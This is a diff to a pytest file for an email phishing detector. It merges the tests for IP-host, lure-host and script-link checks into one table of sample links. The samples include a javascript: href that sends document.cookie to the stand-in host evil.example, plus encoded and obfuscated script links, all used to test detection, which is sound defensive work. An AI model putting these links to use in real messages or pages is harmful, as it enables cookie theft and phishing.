@@ -7,7 +7,7 @@ from email.message import EmailMessage
 
 import pytest
 
-from guard.mail.message import SCRIPT_HREF_CHARS, parse_message
+from guard.mail import SCRIPT_HREF_CHARS, parse_message
 from guard.policy import evaluate, load_rules
 from guard.policy.structural import ip_of_host, run_checks
 
@@ -31,35 +31,89 @@ def checks(rules, msg) -> set[str]:
     return {hit.check for hit in run_checks(rules.structural, msg)}
 
 
-@pytest.mark.parametrize(
-    "href",
-    [
-        "http://45.61.137.22/login.php",
-        "https://8.8.4.4/verify",
-        "http://134744072/secure",  # 8.8.8.8 as one decimal number
-        "http://0x08080808/secure",
-        "http://010.010.010.010/secure",  # octal
-        "http://[2606:4700:4700::1111]/account",
-    ],
-)
-def test_ip_host_fires(rules, href):
-    msg = html_mail(f'<a href="{href}">Open the invoice</a>')
-    assert "phishing.ip-host" in checks(rules, msg)
+# (check, fires, link text, hrefs): each href in an HTML mail from a client, as the link
+# of that text; the check must fire on it, or (a near miss) must not.
+LINKS = [
+    (
+        "phishing.ip-host",
+        True,
+        "Open the invoice",
+        [
+            "http://45.61.137.22/login.php",
+            "https://8.8.4.4/verify",
+            "http://134744072/secure",  # 8.8.8.8 as one decimal number
+            "http://0x08080808/secure",
+            "http://010.010.010.010/secure",  # octal
+            "http://[2606:4700:4700::1111]/account",
+        ],
+    ),
+    (
+        "phishing.ip-host",
+        False,
+        "Open",
+        [
+            "https://quill-design.example/brochure",
+            "http://192.168.1.20/printer",  # a private address: nobody outside serves from it
+            "http://127.0.0.1:8000/",
+            "1.2.3",  # a relative link that only looks numeric
+            "https://v1.2.3.example/docs",
+        ],
+    ),
+    (
+        "phishing.lure-host",
+        True,
+        "Review the document",
+        [
+            "https://invoice-portal-4471.firebaseapp.com/view",
+            "https://pub-9f2c.r2.dev/secure/index.html",
+            "https://docs.google.com/forms/d/e/1FAIpQLSe/viewform",
+            "https://forms.gle/AbCdEf123",
+            "https://storage.googleapis.com/bucket-77/review.html",
+            "https://gateway.example.net/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
+        ],
+    ),
+    (
+        "phishing.lure-host",
+        False,
+        "Preview",
+        [
+            "https://docs.google.com/document/d/1xYz/edit",  # a shared doc, not a form
+            "https://mara.github.io/portfolio/",  # ordinary developer hosting: not listed
+            "https://brochure-preview.vercel.app/",
+            "https://notweb.app.example.com/",
+        ],
+    ),
+    (
+        "phishing.script-link",
+        True,
+        "View statement",
+        [
+            "javascript:document.location='https://evil.example/'+document.cookie",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            " JaVa&#x09;ScRiPt:alert(1)",
+            "vbscript:msgbox(1)",
+        ],
+    ),
+    (
+        "phishing.script-link",
+        False,
+        "Menu",
+        ["javascript:void(0)", "javascript:;", "data:image/png;base64,iVBORw0KGgo=", "#top"],
+    ),
+]
 
 
 @pytest.mark.parametrize(
-    "href",
+    ("check", "fires", "text", "href"),
     [
-        "https://quill-design.example/brochure",
-        "http://192.168.1.20/printer",  # a private address: nobody outside serves from it
-        "http://127.0.0.1:8000/",
-        "1.2.3",  # a relative link that only looks numeric
-        "https://v1.2.3.example/docs",
+        pytest.param(check, fires, text, href, id=f"{check}-{'fires' if fires else 'quiet'}-{i}")
+        for check, fires, text, hrefs in LINKS
+        for i, href in enumerate(hrefs)
     ],
 )
-def test_ip_host_near_misses(rules, href):
-    msg = html_mail(f'<a href="{href}">Open</a>')
-    assert "phishing.ip-host" not in checks(rules, msg)
+def test_link_check_fires_or_near_miss_does_not(rules, check, fires, text, href):
+    msg = html_mail(f'<a href="{href}">{text}</a>')
+    assert (check in checks(rules, msg)) is fires
 
 
 def test_ip_of_host_reads_browser_forms():
@@ -78,36 +132,6 @@ def test_punycode_host_is_supporting(rules):
     assert "phishing.punycode-host" not in checks(rules, plain)
 
 
-@pytest.mark.parametrize(
-    "href",
-    [
-        "https://invoice-portal-4471.firebaseapp.com/view",
-        "https://pub-9f2c.r2.dev/secure/index.html",
-        "https://docs.google.com/forms/d/e/1FAIpQLSe/viewform",
-        "https://forms.gle/AbCdEf123",
-        "https://storage.googleapis.com/bucket-77/review.html",
-        "https://gateway.example.net/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
-    ],
-)
-def test_lure_host_fires(rules, href):
-    msg = html_mail(f'<a href="{href}">Review the document</a>')
-    assert "phishing.lure-host" in checks(rules, msg)
-
-
-@pytest.mark.parametrize(
-    "href",
-    [
-        "https://docs.google.com/document/d/1xYz/edit",  # a shared doc, not a form
-        "https://mara.github.io/portfolio/",  # ordinary developer hosting: not listed
-        "https://brochure-preview.vercel.app/",
-        "https://notweb.app.example.com/",
-    ],
-)
-def test_lure_host_near_misses(rules, href):
-    msg = html_mail(f'<a href="{href}">Preview</a>')
-    assert "phishing.lure-host" not in checks(rules, msg)
-
-
 def test_lure_host_counts_only_next_to_a_real_finding(rules):
     alone = html_mail('<a href="https://acme-login.web.app/">Sign in</a>')
     assert evaluate(rules, alone).risk == "none"
@@ -117,28 +141,6 @@ def test_lure_host_counts_only_next_to_a_real_finding(rules):
     verdict = evaluate(rules, with_ip)
     assert {"phishing.lure-host", "phishing.ip-host"} <= {f.rule for f in verdict.findings}
     assert verdict.risk != "none"
-
-
-@pytest.mark.parametrize(
-    "href",
-    [
-        "javascript:document.location='https://evil.example/'+document.cookie",
-        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-        " JaVa&#x09;ScRiPt:alert(1)",
-        "vbscript:msgbox(1)",
-    ],
-)
-def test_script_link_fires(rules, href):
-    msg = html_mail(f'<a href="{href}">View statement</a>')
-    assert "phishing.script-link" in checks(rules, msg)
-
-
-@pytest.mark.parametrize(
-    "href", ["javascript:void(0)", "javascript:;", "data:image/png;base64,iVBORw0KGgo=", "#top"]
-)
-def test_script_link_near_misses(rules, href):
-    msg = html_mail(f'<a href="{href}">Menu</a>')
-    assert "phishing.script-link" not in checks(rules, msg)
 
 
 def test_parser_keeps_script_hrefs_bounded():
